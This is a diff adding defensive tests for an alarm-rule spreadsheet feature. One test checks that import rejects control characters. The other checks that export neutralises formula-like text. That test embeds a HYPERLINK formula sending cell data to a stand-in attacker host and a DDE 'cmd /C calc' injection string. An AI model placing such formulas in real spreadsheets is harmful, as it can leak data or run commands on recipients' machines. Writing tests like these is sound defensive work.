@@ -22,6 +22,8 @@ import {
   sheetBytes,
   uploadSheet,
 } from './alarm-rule-test-helpers.ts';
+import { importZipLimits } from './alarm-sheet.reader.ts';
+import { inspectZip, storedZip } from './xlsx-guard.ts';
 
 let server: TestServer;
 let en: Awaited<ReturnType<typeof createActiveUser>>;
@@ -163,6 +165,50 @@ describe('import', () => {
         ],
       },
       { row: 7, errors: [{ field: 'tag', key: 'validation.alarm.onOffTagType' }] },
+    ]);
+    expect((await rulesOf(t, template.id)).count).toBe(0);
+    expect(await groupsOf(t)).toEqual(before);
+  });
+
+  it('holds cells to the free-text rule of the request schemas and imports nothing', async () => {
+    const t = en.tokens.token;
+    const { template } = await buildAlarmTemplate(server, t);
+    const before = await groupsOf(t);
+    // exceljs drops control characters when it writes, but XML carries DEL and C1 and any other
+    // program may write them: put them into the shared strings by hand.
+    const written = await sheetBytes([
+      HEADER,
+      ['pump~DEL~', null, 'Minor', 'int16', 'High', 10],
+      ['ok 1', 'ops~NEL~', 'Minor', 'int16', 'High', 10, null, null, null, 'a~CSI~31m'],
+      ['ok 2', 'two\nlines', 'Minor', 'int16~PAD~', 'High', 10, null, null, null, 'line 1\nline 2'],
+    ]);
+    const parts = inspectZip(written, importZipLimits);
+    const strings = parts.get('xl/sharedStrings.xml')!.toString('utf8');
+    const raw = { '~DEL~': '\u007f', '~NEL~': '\u0085', '~CSI~': '\u009b', '~PAD~': '\u0080' };
+    const patched = Object.entries(raw).reduce((xml, [mark, c]) => xml.replace(mark, c), strings);
+    parts.set('xl/sharedStrings.xml', Buffer.from(patched, 'utf8'));
+    const bytes = storedZip(parts);
+    const res = await uploadSheet<AlarmImportErrors>(server, t, {
+      templateId: template.id,
+      file: xlsx(bytes),
+    });
+    expect(res.body.code).toBe(ErrorCode.E1006_BAD_PARAMETER);
+    expect(res.body.data.rows).toEqual([
+      { row: 2, errors: [{ field: 'name', key: 'validation.text.controlChars' }] },
+      {
+        row: 3,
+        errors: [
+          { field: 'group', key: 'validation.text.controlChars' },
+          { field: 'content', key: 'validation.text.controlChars' },
+        ],
+      },
+      {
+        row: 4,
+        errors: [
+          { field: 'group', key: 'validation.text.singleLine' },
+          { field: 'tag', key: 'validation.text.controlChars' },
+        ],
+      },
     ]);
     expect((await rulesOf(t, template.id)).count).toBe(0);
     expect(await groupsOf(t)).toEqual(before);
@@ -340,6 +386,43 @@ describe('export and round trip', () => {
       expect(strip((await rulesOf(other.tokens.token, target.id)).list)).toEqual(strip(before.list));
     },
   );
+
+  it('text that starts like a formula is exported behind a quote and imports back unchanged', async () => {
+    const t = en.tokens.token;
+    const { template, tag } = await buildAlarmTemplate(server, t);
+    const group = (
+      await server.call<AlarmGroup>('POST', '/alarm/group/add', { token: t, body: { name: '@ops' } })
+    ).body.data;
+    const link = '=HYPERLINK("https://evil.example/?"&A1,"open")';
+    const base = {
+      template_id: template.id,
+      level: AlarmLevel.Minor,
+      tag_id: tag('int16'),
+      type: AlarmType.High,
+      value: '10',
+    };
+    await addRule(server, t, { ...base, name: link, group_id: group.id, content: '+cmd|" /C calc"!A0' });
+    await addRule(server, t, { ...base, name: "'=quoted by its author", content: '-2+3\nsecond line' });
+    await addRule(server, t, { ...base, name: '-7', value: '-5', content: '@SUM(A1:A9)' });
+    const before = await rulesOf(t, template.id);
+    const version = await versionOf(t, template.id);
+
+    const file = await download(server, t, `/alarm/rule/export?template_id=${template.id}`);
+    const rows = (await readBack(file.bytes)).sheets[0]!.rows.slice(1);
+    const cells = (r: string[] | undefined) => [r?.[0], r?.[1], r?.[5], r?.[9]];
+    expect(cells(rows[0])).toEqual([`'${link}`, "'@ops", '10', `'+cmd|" /C calc"!A0`]);
+    expect(cells(rows[1])).toEqual(["''=quoted by its author", '', '10', "'-2+3\nsecond line"]);
+    // A plain number is no formula: it stays as it is (a number cell for the value).
+    expect(cells(rows[2])).toEqual(['-7', '', '-5', "'@SUM(A1:A9)"]);
+
+    const res = await uploadSheet<AlarmImportReply>(server, t, {
+      templateId: template.id,
+      file: xlsx(file.bytes),
+    });
+    expect(res.body).toMatchObject({ code: 0, data: { imported: 3, groups_created: 0 } });
+    expect(await rulesOf(t, template.id)).toEqual(before);
+    expect(await versionOf(t, template.id)).toBe(version);
+  });
 
   it('the import template has the header row with a note on each column in the language asked, and the codes', async () => {
     const t = en.tokens.token;
